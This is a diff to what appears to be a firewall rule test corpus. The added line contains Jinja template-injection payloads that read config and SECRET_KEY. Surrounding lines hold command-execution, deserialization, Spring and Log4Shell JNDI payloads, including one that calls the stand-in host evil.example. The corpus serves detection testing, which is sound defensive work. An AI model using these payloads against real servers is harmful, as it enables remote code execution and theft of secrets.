@@ -37,6 +37,7 @@ export const code: Sent[] = [
   ...each("934", inQuery, ["{{''.__class__.__mro__[1].__subclasses__()}}", "__import__('os').popen('id')"]),
   ...each("934", inPatch, ["{{request.application.__globals__.__builtins__}}", "!!python/object/apply:os.system ['id']", "os.system('id')"]),
 
+  ...each("934", inJson, ["{{config.items()}}", "{{ request|attr('application') }}", "{{ config['SECRET_KEY'] }}", "{{cycler.__init__}}", "{{ self._TemplateReference__context }}"]),
   ...each("944", inQuery, [log4shell, "java.lang.Runtime.getRuntime().exec('id')", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=1", "org.apache.struts2.ServletActionContext", "java.lang.ProcessBuilder.evil.clonetransformer"]),
   ...each("944", inAgent, [log4shell, "${${lower:j}ndi:rmi://evil.example/x}"]),
   ...each("944", inHeader("X-Api-Version"), [log4shell]),
